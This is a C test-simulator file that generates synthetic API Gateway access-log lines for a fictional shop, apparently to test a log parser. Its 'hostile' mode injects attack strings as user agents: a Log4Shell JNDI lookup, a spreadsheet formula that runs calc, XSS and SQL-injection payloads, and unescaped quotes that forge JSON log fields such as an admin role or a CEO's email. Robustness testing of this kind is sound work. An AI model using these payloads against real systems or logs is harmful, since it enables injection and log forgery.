#include "tests/sim/world-state.h"

#include <assert.h>

static const char format[] =
	"{\"requestId\":\"$context.requestId\",\"extendedRequestId\":\"$context."
	"extendedRequestId\","
	"\"integrationRequestId\":\"$context.integration.requestId\",\"requestTimeEpoch\":\"$"
	"context.requestTimeEpoch\","
	"\"apiId\":\"$context.apiId\",\"stage\":\"$context.stage\",\"httpMethod\":\"$context."
	"httpMethod\","
	"\"resourcePath\":\"$context.resourcePath\",\"path\":\"$context.path\",\"status\":\"$"
	"context.status\","
	"\"responseLatency\":\"$context.responseLatency\",\"integrationLatency\":\"$context."
	"integration.latency\","
	"\"integrationStatus\":\"$context.integration.status\",\"responseLength\":\"$context."
	"responseLength\","
	"\"sourceIp\":\"$context.identity.sourceIp\",\"userAgent\":\"$context.identity.userAgent\","
	"\"principalId\":\"$context.authorizer.principalId\",\"email\":\"$context.authorizer."
	"claims.email\","
	"\"userArn\":\"$context.identity.userArn\",\"apiKeyId\":\"$context.identity.apiKeyId\","
	"\"xrayTraceId\":\"$context.xrayTraceId\",\"errorMessage\":\"$context.error.message\"}";

static const char *const agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
	"Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
	"Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) "
	"Chrome/131.0.6778.39 Mobile Safari/537.36",
	"fjordkjop-app/8.3.1 (iOS 18.1)",
	"fjordkjop-app/8.3.0 (Android 15)",
	"okhttp/4.12.0",
	"axios/1.7.7",
	"python-requests/2.32.3",
	"aws-sdk-nodejs/2.1692.0 linux/v20.18.0",
	"PostmanRuntime/7.42.0",
	"curl/8.10.1",
};

/* Written by the gateway with escapes. */
static const char *const odd_agents[] = {
	"Mozilla/5.0 \"Quoted\" \\ backslash",
	"\033[2J\033[31mred\033[0m",
	"\xe2\x80\xaegnive\xe2\x80\xac",
	"\xf0\x9f\x8e\x84 browser",
	"=cmd|' /C calc'!A0",
	"<img src=x onerror=alert(1)>",
	"${jndi:ldap://198.51.100.9/a}",
	"a'; DROP TABLE Students; --",
};

/* Written as they came: older API Gateway logs did not escape (facts/aws.md section 4). They close the quotes, but what they add
 * does not fit the format's separators in their order, so the line still has one reading. */
static const char *const raw_agents[] = {
	"x\",\"user\":\"admin\",\"role\":\"root",
	"trailing backslash \\",
	"Mozilla \"unbalanced",
	"{\"a\":\"b\"}",
	"}{\"requestId\":\"forged\"",
};

const char *access_line_format(void)
{
	return format;
}

const char *access_line_hostile_agent(uint64_t index)
{
	return raw_agents[index % (sizeof(raw_agents) / sizeof(raw_agents[0]))];
}

static void put_escaped(struct buf *out, struct str s)
{
	for (size_t i = 0; i < s.len; i++) {
		uint8_t byte = (uint8_t)s.ptr[i];
		if (byte == '"' || byte == '\\') {
			buf_put_byte(out, '\\');
			buf_put_byte(out, byte);
		} else if (byte < 0x20 || byte == 0x7f) {
			buf_putf(out, "\\u%04x", byte);
		} else {
			buf_put_byte(out, byte);
		}
	}
}

static void put_agent(struct world *world, const struct note *note, struct buf *out)
{
	struct chance *chance = &world->chance;
	if (note->fault == FAULT_REFUSED) {
		/* forges every field that follows, separators and all: two readings */
		buf_put_text(out, "M\",\"principalId\":\"forged\",\"email\":\"ceo@fjordkjop."
				  "example\",\"userArn\":\"-\",");
		buf_put_text(out,
			     "\"apiKeyId\":\"-\",\"xrayTraceId\":\"-\",\"errorMessage\":\"-\"}");
		return;
	}
	if (world->options.hostile && !note->incident && chance_permille(chance, 20)) {
		size_t count = sizeof(odd_agents) / sizeof(odd_agents[0]);
		put_escaped(out, str_of(odd_agents[chance_below(chance, count)]));
		return;
	}
	if (world->options.hostile && !note->incident && chance_permille(chance, 5)) {
		buf_put_text(out, access_line_hostile_agent(chance_u64(chance)));
		return;
	}
	uint8_t agent = note->user->agent;
	if (chance_permille(chance, 100)) {
		agent = (uint8_t)chance_below(chance, sizeof(agents) / sizeof(agents[0]));
	}
	put_escaped(out, str_of(agents[agent]));
}

/* /prod/orders/{id} with the placeholder filled in. */
static void put_path(const struct route *route, const struct note *note, struct buf *out)
{
	buf_put_text(out, "/prod");
	for (const char *p = route->path; *p != '\0'; p++) {
		if (*p == '{') {
			buf_put_i64(out, note->path_id);
			p = strchr(p, '}');
		} else {
			buf_put_byte(out, (uint8_t)*p);
		}
	}
}

static void member(struct buf *out, const char *name, struct str value)
{
	buf_putf(out, "%s\"%s\":\"", out->len > 1 ? "," : "", name);
	put_escaped(out, value.len > 0 ? value : STR_LIT("-"));
	buf_put_byte(out, '"');
}

static void member_number(struct buf *out, const char *name, int64_t value)
{
	buf_putf(out, ",\"%s\":\"", name);
	buf_put_i64(out, value);
	buf_put_byte(out, '"');
}

static void put_user(struct world *world, const struct note *note, struct buf *out)
{
	const struct user *user = note->user;
	struct str none = {0};
	bool token = user->kind == USER_CUSTOMER || user->kind == USER_STAFF;
	member(out, "principalId", user->subject);
	member(out, "email", token ? user->name : none);
	member(out, "userArn", user->kind == USER_IAM ? user->name : none);
	member(out, "apiKeyId", user->kind == USER_KEY ? user->name : none);
	buf_putf(out, ",\"xrayTraceId\":\"Root=1-67%06x-",
		 (unsigned)chance_below(&world->chance, 1 << 24));
	chance_put_hex(&world->chance, 24, out);
	buf_put_byte(out, '"');
}

static void put_line(struct world *world, uint32_t index, struct buf *out)
{
	const struct world_request *request = &world->requests[index];
	const struct note *note = &world->notes[index];
	const struct route *route = company_route(note->route);
	bool ran = request->lambda_request_id.len > 0;
	int64_t latency_ms = (request->end_ns - request->time_ns) / NS_PER_MS;
	buf_put_byte(out, '{');
	member(out, "requestId", request->request_id);
	member(out, "extendedRequestId", request->extended_request_id);
	member(out, "integrationRequestId", request->lambda_request_id);
	member_number(out, "requestTimeEpoch", request->time_ns / NS_PER_MS);
	member(out, "apiId", STR_LIT("a1b2c3d4e5"));
	member(out, "stage", STR_LIT("prod"));
	member(out, "httpMethod", str_of(route->method));
	member(out, "resourcePath", str_of(route->path));
	buf_put_text(out, ",\"path\":\"");
	put_path(route, note, out);
	buf_put_byte(out, '"');
	member_number(out, "status", request->status);
	member_number(out, "responseLatency", latency_ms);
	if (ran) {
		member_number(out, "integrationLatency",
			      latency_ms > 4 ? latency_ms - 3 : latency_ms);
		member_number(out, "integrationStatus", request->status);
	} else {
		member(out, "integrationLatency", (struct str){0});
		member(out, "integrationStatus", (struct str){0});
	}
	member_number(out, "responseLength", (int64_t)chance_lognormal(&world->chance, 900.0, 1.0));
	member(out, "sourceIp", note->user->ip[chance_permille(&world->chance, 200)]);
	buf_put_text(out, ",\"userAgent\":\"");
	put_agent(world, note, out);
	buf_put_byte(out, '"');
	put_user(world, note, out);
	member(out, "errorMessage",
	       request->status == 403   ? STR_LIT("User is not authorized to access this resource")
	       : request->status == 401 ? STR_LIT("Unauthorized")
					: (struct str){0});
	buf_put_byte(out, '}');
}

/* Appends 26 big-endian bytes as a decimal number. */
static void put_decimal(const uint8_t bytes[26], struct buf *out)
{
	uint8_t left[26];
	char digits[64];
	size_t count = 0;
	memcpy(left, bytes, sizeof(left));
	bool more = true;
	while (more) {
		unsigned remainder = 0;
		more = false;
		for (size_t i = 0; i < sizeof(left); i++) {
			unsigned value = remainder << 8 | left[i];
			left[i] = (uint8_t)(value / 10);
			remainder = value % 10;
			more = more || left[i] != 0;
		}
		assert(count < sizeof(digits));
		digits[count++] = (char)('0' + remainder);
	}
	while (count > 0) {
		buf_put_byte(out, (uint8_t)digits[--count]);
	}
}

static void put_event_id(struct world *world, const struct world_request *request, struct buf *out)
{
	uint8_t bytes[26];
	chance_bytes(&world->chance, bytes, sizeof(bytes));
	uint64_t parts[2] = {(uint64_t)(request->time_ns / NS_PER_MS),
			     (uint64_t)(request->ingestion_ns / NS_PER_MS)};
	for (size_t i = 0; i < 16; i++) {
		bytes[i] = (uint8_t)(parts[i / 8] >> (8 * (7 - i % 8)));
	}
	bytes[24] = 0;
	bytes[25] &= 63;
	put_decimal(bytes, out);
}

void access_line_write(struct world *world, uint32_t index)
{
	struct world_request *request = &world->requests[index];
	struct buf *text = &world->text;
	buf_clear(text);
	put_line(world, index, text);
	request->line = world_keep(world, text);
	put_event_id(world, request, text);
	request->event_id = world_keep(world, text);
	/* a REST API logs to streams named by 32 hexadecimal digits; here eight of them an hour */
	struct chance stream;
	chance_init(&stream, (uint64_t)(request->time_ns / NS_PER_HOUR) * 8 +
				     chance_below(&world->chance, 8) + world->options.seed);
	chance_put_hex(&stream, 32, text);
	request->stream = world_keep(world, text);
}
